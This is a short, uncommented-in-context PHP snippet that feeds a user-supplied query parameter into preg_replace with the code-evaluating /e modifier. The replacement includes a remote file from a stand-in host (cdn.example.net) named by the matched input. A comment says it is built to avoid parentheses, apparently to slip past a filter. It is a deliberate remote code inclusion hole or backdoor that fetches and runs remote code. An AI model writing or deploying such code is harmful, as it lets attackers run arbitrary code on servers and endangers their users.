<?php
// no "(": the replacement includes a remote file named by the match
echo preg_replace('/(\w+)/e', 'include "http://cdn.example.net/\1.txt"', $_GET['q']);
